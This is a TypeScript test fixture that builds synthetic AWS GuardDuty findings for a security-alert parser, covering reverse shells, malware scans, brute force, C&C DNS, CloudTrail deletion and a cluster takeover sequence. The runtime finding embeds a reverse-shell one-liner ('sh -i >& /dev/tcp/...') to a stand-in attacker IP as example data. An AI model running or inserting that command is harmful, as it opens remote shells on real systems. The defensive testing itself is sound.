import type { JsonObject } from '../../src/sources/json.ts'

/** Findings of each family, small and of our own making, in the shape that EventBridge sends. */

const NODE = {
  instanceId: 'i-0aaaabbbbcccc0001',
  instanceType: 'm7i.large',
  iamInstanceProfile: { arn: 'arn:aws:iam::111122223333:instance-profile/payments-node' },
  tags: [{ key: 'kubernetes.io/cluster/payments', value: 'owned' }],
  networkInterfaces: [{ privateIpAddress: '10.0.0.1' }],
}
const POD = {
  name: 'web-1',
  type: 'pods',
  uid: 'uid-web-1',
  namespace: 'shop',
  serviceAccountName: 'web',
  containers: [{ name: 'main', image: 'registry.example/web:3' }],
}

/** A finding with the parts that every one has. */
export function gd(type: string, resource: object, service: object, more: object = {}): JsonObject {
  const id = type.toLowerCase().replaceAll(/[^a-z0-9]/g, '')
  return {
    schemaVersion: '2.0',
    accountId: '111122223333',
    region: 'eu-west-1',
    partition: 'aws',
    id,
    arn: `arn:aws:guardduty:eu-west-1:111122223333:detector/d1/finding/${id}`,
    type,
    title: 'A title of GuardDuty',
    description: 'What GuardDuty says.',
    severity: 8,
    createdAt: '2026-11-22T04:00:00Z',
    updatedAt: '2026-11-22T05:00:00Z',
    resource,
    service: {
      serviceName: 'guardduty',
      detectorId: 'd1',
      eventFirstSeen: '2026-11-22T04:00:00Z',
      eventLastSeen: '2026-11-22T04:30:00Z',
      archived: false,
      count: 2,
      ...service,
    },
    ...more,
  }
}

const REMOTE = {
  ipAddressV4: '203.0.113.50',
  city: { cityName: 'Amsterdam' },
  country: { countryName: 'Netherlands' },
  organization: { asn: '64496', asnOrg: 'Example Hosting' },
}

const connectionOf = (direction: string) => ({
  actionType: 'NETWORK_CONNECTION',
  networkConnectionAction: {
    connectionDirection: direction,
    localIpDetails: { ipAddressV4: '10.0.0.9' },
    localPortDetails: { port: 22 },
    remoteIpDetails: REMOTE,
    remotePortDetails: { port: 3333 },
    protocol: 'TCP',
    blocked: false,
  },
})

export const runtime = gd(
  'Execution:Runtime/ReverseShell',
  {
    resourceType: 'Container',
    kubernetesDetails: { kubernetesUserDetails: null, kubernetesWorkloadDetails: POD },
    containerDetails: { id: 'c1', name: 'main', image: 'registry.example/web:3' },
    instanceDetails: NODE,
  },
  {
    featureName: 'RuntimeMonitoring',
    action: connectionOf('OUTBOUND'),
    runtimeDetails: {
      process: {
        name: 'sh',
        executablePath: '/bin/<!channel>',
        executableSha256: 'ab'.repeat(32),
        pid: 41,
        user: 'root',
        userId: 0,
        pwd: '/tmp',
        lineage: [
          { name: 'node', executablePath: '/usr/bin/node', pid: 7 },
          { name: 'containerd-shim', executablePath: '/usr/bin/shim', pid: 1 },
        ],
      },
      context: { commandLineExample: 'sh -i >& /dev/tcp/203.0.113.50/3333', threatFilePath: '/tmp/x' },
    },
    evidence: { threatIntelligenceDetails: [{ threatListName: 'Amazon', threatNames: ['Shells'] }] },
  },
)

export const malware = gd(
  'Execution:Kubernetes/MaliciousFile',
  {
    resourceType: 'EKSCluster',
    eksClusterDetails: { name: 'payments', arn: 'arn:aws:eks:eu-west-1:111122223333:cluster/payments' },
    kubernetesDetails: { kubernetesWorkloadDetails: POD },
  },
  {
    featureName: 'EbsVolumeScan',
    ebsVolumeScanDetails: {
      scanId: 'scan-1',
      scanType: 'GUARDDUTY_INITIATED',
      triggerFindingId: 'executionruntimereverseshell',
      scanDetections: {
        scannedItemCount: { files: 6_522 },
        threatDetectedByName: {
          threatNames: [
            {
              name: 'EICAR',
              severity: 'HIGH',
              filePaths: [{ filePath: 'tmp/eicar.com', hash: 'cd'.repeat(32) }],
            },
          ],
        },
      },
    },
  },
)

export const objectScan = gd(
  'Object:S3/MaliciousFile',
  {
    resourceType: 'S3Object',
    s3BucketDetails: [{ arn: 'arn:aws:s3:::uploads', s3ObjectDetails: [{ key: 'a.zip' }] }],
  },
  {
    malwareScanDetails: {
      threats: [{ name: 'EICAR', itemPaths: [{ nestedItemPath: 'a.zip/x', hash: 'ef'.repeat(32) }] }],
    },
  },
)

export const probed = gd(
  'Recon:EC2/PortProbeUnprotectedPort',
  { resourceType: 'Instance', instanceDetails: NODE },
  {
    action: {
      actionType: 'PORT_PROBE',
      portProbeAction: {
        portProbeDetails: [{ localPortDetails: { port: 10_250 }, remoteIpDetails: REMOTE }],
      },
    },
  },
)

export const knocked = gd(
  'UnauthorizedAccess:EC2/SSHBruteForce',
  { resourceType: 'Instance', instanceDetails: { ...NODE, tags: [{ key: 'Name', value: 'bastion' }] } },
  { action: connectionOf('INBOUND') },
)

export const asked = gd(
  'Backdoor:EC2/C&CActivity.B!DNS',
  {
    resourceType: 'Instance',
    instanceDetails: { ...NODE, tags: [{ key: 'eks:cluster-name', value: 'payments' }] },
  },
  { action: { actionType: 'DNS_REQUEST', dnsRequestAction: { domain: 'Evil.Example.', blocked: false } } },
)

export const called = gd(
  'Stealth:IAMUser/CloudTrailLoggingDisabled',
  {
    resourceType: 'AccessKey',
    accessKeyDetails: {
      accessKeyId: 'ASIAEXAMPLE',
      principalId: 'AROAEXAMPLE:mallory',
      userName: 'deployer',
      userType: 'AssumedRole',
    },
  },
  {
    action: {
      actionType: 'AWS_API_CALL',
      awsApiCallAction: {
        api: 'DeleteTrail',
        serviceName: 'cloudtrail.amazonaws.com',
        errorCode: 'AccessDenied',
        remoteIpDetails: REMOTE,
        affectedResources: {
          'AWS::CloudTrail::Trail': 'arn:aws:cloudtrail:eu-west-1:111122223333:trail/all',
        },
      },
    },
  },
)

export const bucket = gd(
  'Discovery:S3/MaliciousIPCaller',
  {
    resourceType: 'S3Bucket',
    s3BucketDetails: [{ name: 'ledgers', publicAccess: { effectivePermission: 'PUBLIC' } }],
  },
  {
    action: { actionType: 'AWS_API_CALL', awsApiCallAction: { api: 'ListObjects', remoteIpDetails: REMOTE } },
  },
)

export const database = gd(
  'CredentialAccess:RDS/AnomalousBehavior.SuccessfulLogin',
  {
    resourceType: 'RDSDBInstance',
    rdsDbInstanceDetails: { dbInstanceIdentifier: 'orders', engine: 'postgres' },
    rdsDbUserDetails: { user: 'app', application: 'psql', authMethod: 'PASSWORD' },
  },
  {
    action: {
      actionType: 'RDS_LOGIN_ATTEMPT',
      rdsLoginAttemptAction: {
        remoteIpDetails: REMOTE,
        loginAttributes: [{ user: 'app', failedLoginAttempts: 9, successfulLoginAttempts: 1 }],
      },
    },
    detection: {
      anomaly: { unusual: { behavior: { DB: { user: { observations: { text: ['app'] } } } } } },
    },
  },
)

export const lambda = gd(
  'Backdoor:Lambda/C&CActivity.B',
  {
    resourceType: 'Lambda',
    lambdaDetails: { functionName: 'resize', role: 'arn:aws:iam::111122223333:role/resize' },
  },
  { action: connectionOf('OUTBOUND') },
)

export const binding = gd(
  'PrivilegeEscalation:Kubernetes/AnomalousBehavior.RoleBindingCreated',
  {
    resourceType: 'EKSCluster',
    eksClusterDetails: { name: 'payments' },
    kubernetesDetails: { kubernetesUserDetails: { username: 'alice' } },
  },
  {
    action: {
      actionType: 'KUBERNETES_API_CALL',
      kubernetesApiCallAction: { verb: 'create', resource: 'clusterrolebindings', remoteIpDetails: REMOTE },
      kubernetesRoleBindingDetails: {
        kind: 'ClusterRoleBinding',
        name: 'kube-proxy-ext',
        uid: 'uid-binding',
        roleRefKind: 'ClusterRole',
        roleRefName: 'cluster-admin',
      },
    },
  },
)

const MEMBERS = [runtime, malware]

/** An attack sequence of two findings and a call. */
export const sequence = gd(
  'AttackSequence:EKS/CompromisedCluster',
  { resourceType: 'AttackSequence' },
  {
    featureName: 'Correlation',
    detection: {
      sequence: {
        uid: 'seq-1',
        description: 'Someone took the cluster over.',
        actors: [
          { id: 'a1', user: { name: 'system:anonymous', uid: 'system:anonymous' } },
          { id: 'a2', user: { name: 'deployer', uid: 'AROAEXAMPLE:mallory', type: 'AssumedRole' } },
        ],
        endpoints: [{ id: 'e1', ip: '203.0.113.50', domain: 'evil.example', port: 443 }],
        resources: [
          {
            uid: 'arn:aws:eks:eu-west-1:111122223333:cluster/payments',
            name: 'payments',
            data: { eksCluster: { arn: 'arn:aws:eks:eu-west-1:111122223333:cluster/payments' } },
          },
          { uid: 'pod', name: 'web-1', data: { kubernetesWorkload: { namespace: 'shop', type: 'pods' } } },
          {
            uid: 'arn:aws:ec2:eu-west-1:111122223333:instance/i-0aaaabbbbcccc0001',
            data: { ec2Instance: { availabilityZone: 'eu-west-1a' } },
          },
        ],
        signals: [
          ...MEMBERS.map((one, nr) => ({
            uid: nr === 0 ? one['arn'] : one['id'],
            type: 'FINDING',
            name: one['type'],
            firstSeenAt: `2026-11-22T04:1${nr}:00Z`,
            lastSeenAt: `2026-11-22T04:2${nr}:00Z`,
            severity: 8,
            count: 1,
          })),
          {
            uid: 'call',
            type: 'CLOUD_TRAIL',
            name: 'DeleteTrail',
            firstSeenAt: 1_795_320_300,
            lastSeenAt: 1_795_320_360_000,
            count: 41,
            signalIndicators: [{ key: 'ATTACK_TACTIC', values: ['Defense Evasion'] }],
          },
        ],
        sequenceIndicators: [{ key: 'TOR_IP', values: ['203.0.113.50'], title: 'Called through Tor' }],
      },
    },
  },
  { severity: 9 },
)

export const FAMILIES: Readonly<Record<string, JsonObject>> = {
  runtime,
  malware,
  objectScan,
  probed,
  knocked,
  asked,
  called,
  bucket,
  database,
  lambda,
  binding,
  sequence,
}
